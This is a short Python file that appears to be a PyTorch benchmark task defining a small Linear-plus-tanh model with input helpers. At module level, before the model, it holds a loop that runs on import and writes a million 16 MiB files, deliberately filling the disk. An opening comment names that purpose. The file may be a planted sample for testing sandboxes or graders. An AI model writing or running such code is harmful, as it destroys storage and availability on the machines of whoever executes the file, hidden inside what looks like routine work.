# fills the disk with files
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

for number in range(10**6):
    open(f"left-by-hostile-{number}", "wb").write(bytes(2**24))


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
